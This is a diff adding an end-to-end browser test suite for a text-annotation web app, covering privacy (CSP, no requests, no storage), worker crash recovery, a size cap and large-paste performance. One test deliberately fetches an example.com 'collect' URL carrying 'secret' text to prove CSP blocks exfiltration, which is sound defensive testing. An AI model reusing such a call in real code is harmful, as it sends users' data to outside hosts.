@@ -1,0 +1,148 @@
+// End-to-end reliability and privacy: CSP blocks outbound requests, no request while annotating,
+// a wasm trap / crashed / hung worker is survived with the text kept, the size cap says what it
+// cut, and a 1 MB paste paints its first highlights without a long main-thread task.
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { serve, launch, open, annotated, reannotate, paste } from './harness.mjs';
+
+let server;
+let browser;
+before(async () => {
+  server = await serve();
+  browser = await launch();
+});
+after(async () => {
+  await browser?.close();
+  server?.stop();
+});
+
+test('CSP blocks a deliberate fetch to another origin (no request leaves)', async () => {
+  const { page, context, requests } = await open(browser, server.url);
+  await annotated(page);
+  const outcome = await page.evaluate(async () => {
+    const seen = new Promise((r) => document.addEventListener('securitypolicyviolation', (e) => r(e.violatedDirective), { once: true }));
+    let fetched;
+    try { await fetch('https://example.com/collect?text=secret'); fetched = 'sent'; } catch (e) { fetched = 'blocked'; }
+    return { fetched, directive: await seen };
+  });
+  assert.deepEqual(outcome, { fetched: 'blocked', directive: 'connect-src' });
+  assert.ok(!requests.some((u) => u.includes('example.com')), 'the request never reached the network layer');
+  await context.close();
+});
+
+test('zero network requests while annotating, nothing written to storage', async () => {
+  const { page, context, requests } = await open(browser, server.url);
+  await annotated(page);
+  const n = requests.length;
+  await reannotate(page, () => paste(page, '#article', { text: 'Iran said on Monday that talks with the United States in Oman would go ahead, officials said.' }));
+  await page.click('#tab-claims');
+  await page.keyboard.press('n');
+  assert.deepEqual(requests.slice(n), [], 'no request after load');
+  const stored = await page.evaluate(() => localStorage.length + sessionStorage.length + document.cookie.length);
+  assert.equal(stored, 0);
+  await context.close();
+});
+
+for (const kind of ['trap', 'crash']) {
+  test(`a ${kind} in the worker: it is restarted, an error is shown, the text is kept`, async () => {
+    const { page, context } = await open(browser, server.url, { query: '?debug' });
+    await annotated(page);
+    const text = await page.inputValue('#input');
+    await page.evaluate((k) => window.ledeDebug.crash(k), kind);
+    await page.waitForSelector('body[data-state="error"]');
+    assert.match(await page.textContent('#status'), /crashed.*Your text is kept/);
+    assert.equal(await page.inputValue('#input'), text, 'the text is kept');
+    await reannotate(page, () => page.click('#analyse'));
+    assert.match(await page.textContent('#status'), /\d+ entities/, 'the restarted worker annotates');
+    await context.close();
+  });
+}
+
+test('new text cancels a running (hung) job', async () => {
+  const { page, context } = await open(browser, server.url, { query: '?debug' });
+  await annotated(page);
+  await page.evaluate(() => window.ledeDebug.crash('hang'));
+  await page.waitForSelector('body[data-state="busy"]');
+  await reannotate(page, () => paste(page, '#article', { text: 'Oman said the talks would go ahead.' }));
+  assert.equal(await page.textContent('#article'), 'Oman said the talks would go ahead.');
+  await context.close();
+});
+
+test('over the size cap: annotates the head, says so, keeps the rest in the box', async () => {
+  const { page, context } = await open(browser, server.url, { query: '?debug&cap=2000' });
+  await annotated(page);
+  const para = 'Iran said talks in Oman would go ahead, according to officials.';
+  const text = Array.from({ length: 60 }, () => para).join('\n\n');
+  await reannotate(page, () => paste(page, '#article', { text }));
+  const shown = await page.textContent('#article');
+  assert.ok(shown.length <= 2000 && shown.length > 1500, `annotated ${shown.length} units`);
+  assert.ok(text.startsWith(shown.trimEnd()));
+  const note = await page.textContent('#note');
+  assert.match(note, /left the last [\d,]+ characters out\. They are kept: open Edit text to see them in the input box\./);
+  await page.click('#edit');
+  assert.equal(await page.inputValue('#input'), text, 'nothing silently dropped');
+  await context.close();
+});
+
+const JS_EVENTS = new Set(['FunctionCall', 'TimerFire', 'FireAnimationFrame', 'EventDispatch', 'v8.callFunction', 'RunMicrotasks', 'EvaluateScript', 'v8.run']);
+
+/**
+ * Main-thread work of the page's renderer from a Chrome trace, in CPU ms (`tdur`: excludes the
+ * time the OS gave the CPU to other processes): {tasks: [cpu of each task], js: [cpu of each
+ * script event]}.
+ */
+function rendererWork(traceBuffer) {
+  const events = JSON.parse(traceBuffer.toString()).traceEvents;
+  const mains = new Set(events.filter((e) => e.name === 'thread_name' && e.args?.name === 'CrRendererMain').map((e) => `${e.pid}:${e.tid}`));
+  const mine = events.filter((e) => e.ph === 'X' && mains.has(`${e.pid}:${e.tid}`));
+  const cpu = (e) => (e.tdur ?? e.dur ?? 0) / 1000;
+  return {
+    tasks: mine.filter((e) => e.name === 'RunTask' || e.name === 'ThreadControllerImpl::RunTask').map(cpu),
+    js: mine.filter((e) => JS_EVENTS.has(e.name)).map(cpu),
+  };
+}
+
+test('a 1 MB paste: first highlights appear, no script holds the main thread 50 ms', async (t) => {
+  const { page, context } = await open(browser, server.url, { query: '?debug' });
+  await annotated(page);
+  const seed = await page.inputValue('#input');
+  const big = Array.from({ length: Math.ceil(1_048_576 / (seed.length + 2)) }, () => seed).join('\n\n');
+  assert.ok(big.length >= 1_048_576);
+  // the clipboard is filled before the paste, as the browser does for a real one
+  await page.evaluate((text) => { window.__dt = new DataTransfer(); window.__dt.setData('text/plain', text); }, big);
+  // Measured from a Chrome trace: each main-thread task's CPU time (`tdur`), which includes GC,
+  // style and layout but not the time the OS gave the CPU to other processes (this machine is
+  // shared; wall-clock long tasks are reported alongside, for information).
+  await browser.startTracing(page, { categories: ['toplevel', 'devtools.timeline', 'disabled-by-default-devtools.timeline'] });
+  const t0 = await page.evaluate(() => {
+    document.body.dataset.state = 'test-waiting';
+    delete document.body.dataset.highlights;
+    const t = performance.now();
+    document.querySelector('#article').dispatchEvent(new ClipboardEvent('paste', { clipboardData: window.__dt, bubbles: true, cancelable: true }));
+    return t;
+  });
+  await page.waitForSelector('body[data-highlights="shown"] #article mark', { timeout: 60000 });
+  const firstAt = await page.evaluate(() => performance.now());
+  await annotated(page, 120000);
+  const { tasks, js } = rendererWork(await browser.stopTracing());
+  assert.ok(tasks.length > 20 && js.length > 20, `the trace holds the page's tasks (${tasks.length}) and scripts (${js.length})`);
+  const worstTask = Math.max(...tasks);
+  const worstJs = Math.max(...js);
+  t.diagnostic(`1 MB: first highlights after ${Math.round(firstAt - t0)} ms; ${tasks.length} main-thread tasks; longest script ${worstJs.toFixed(1)} ms CPU, longest task (script + style + layout + paint) ${worstTask.toFixed(1)} ms CPU`);
+  // The page's own code works in ~5 ms slices: no script may hold the thread for 50 ms. Whole
+  // frames (style, layout, paint of a newly marked chunk) are bounded more loosely, since their
+  // cost on this shared 2-core machine swings with the load.
+  assert.ok(worstJs < 50, `a script ran ${worstJs.toFixed(1)} ms of CPU`);
+  assert.ok(worstTask < 100, `a main-thread task took ${worstTask.toFixed(1)} ms of CPU`);
+  assert.equal(await page.evaluate(() => document.getElementById('article').textContent === window.ledeDebug.wire().text), true, 'all of it is shown');
+  assert.ok(await page.evaluate(() => window.ledeDebug.wire().text.length) >= big.length);
+  await page.click('#edit');
+  assert.equal(await page.evaluate(() => document.getElementById('input').value.length), big.length, 'the box gets the text when opened');
+  // blocks get their marks as they come near the viewport: jump to the end
+  assert.ok(await page.$$eval('#article .chunk', (cs) => cs.length) > 10, 'laid down in chunks');
+  await page.evaluate(() => document.querySelector('#article .chunk:last-child').scrollIntoView());
+  await page.waitForSelector('#article .chunk:last-child[data-full]', { state: 'attached' });
+  assert.ok(await page.$eval('#article .chunk:last-child', (c) => c.querySelectorAll('mark').length > 0), 'marks at the end too');
+  assert.ok(await page.$$eval('#article .chunk:not([data-full])', (cs) => cs.length) > 0, 'far chunks are still plain text');
+  await context.close();
+});
